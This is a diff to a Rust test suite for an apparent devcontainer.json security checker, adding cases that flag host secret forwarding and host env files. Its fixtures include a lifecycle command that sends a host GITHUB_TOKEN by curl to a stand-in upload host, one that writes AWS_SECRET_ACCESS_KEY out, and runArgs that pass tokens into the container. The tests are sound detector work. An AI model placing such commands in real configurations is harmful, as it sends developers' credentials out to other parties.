@@ -476,6 +476,32 @@ const CASES: &[(&str, RuleId, Severity, &str)] = &[
         Severity::High,
         "/mounts/0",
     ),
+    // issue 15: `-e NAME` without a value copies the host's value; a host secret inside a
+    // lifecycle command goes wherever the command sends it
+    (
+        r#"{"runArgs": ["-e", "GITHUB_TOKEN"]}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--env=NPM_TOKEN"]}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"postCreateCommand": "curl -H \"Authorization: token ${localEnv:GITHUB_TOKEN}\" https://x.example/upload"}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"initializeCommand": ["sh", "-c", "echo ${env:AWS_SECRET_ACCESS_KEY} > x"]}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/initializeCommand",
+    ),
     // dangerous-environment
     (
         r#"{"containerEnv": {"LD_PRELOAD": "/tmp/x.so"}}"#,
@@ -672,6 +698,19 @@ const CASES: &[(&str, RuleId, Severity, &str)] = &[
         Severity::Medium,
         "/runArgs/0",
     ),
+    // issue 15: an env file named through a host variable is outside the workspace
+    (
+        r#"{"runArgs": ["--env-file=${localWorkspaceFolder}/.env"]}"#,
+        RuleId::HostEnvFile,
+        Severity::Low,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--env-file", "${localEnv:HOME}/.env"]}"#,
+        RuleId::HostEnvFile,
+        Severity::Medium,
+        "/runArgs/0",
+    ),
     (
         r#"{"dockerComposeFile": "compose.yml", "service": "app", "workspaceFolder": "/w"}"#,
         RuleId::ComposeNotAudited,
@@ -722,6 +761,8 @@ fn harmless_documents_have_no_findings_above_info() {
         r#"{"image": "x", "runArgs": ["--init", "--add-host=host.docker.internal:host-gateway"]}"#,
         r#"{"image": "x", "customizations": {"vscode": {"extensions": ["ms-python.python@2024.1.0"], "settings": {}}}}"#,
         r#"{"image": "x", "capAdd": [], "securityOpt": ["no-new-privileges"]}"#,
+        r#"{"image": "x", "runArgs": ["-e", "DISPLAY"]}"#,
+        r#"{"image": "x", "postCreateCommand": "echo ${localEnv:USER} ${containerEnv:GITHUB_TOKEN}"}"#,
         r#"{"image": "x", "postCreateCommand": ""}"#,
     ] {
         let above: Vec<_> = run(doc)
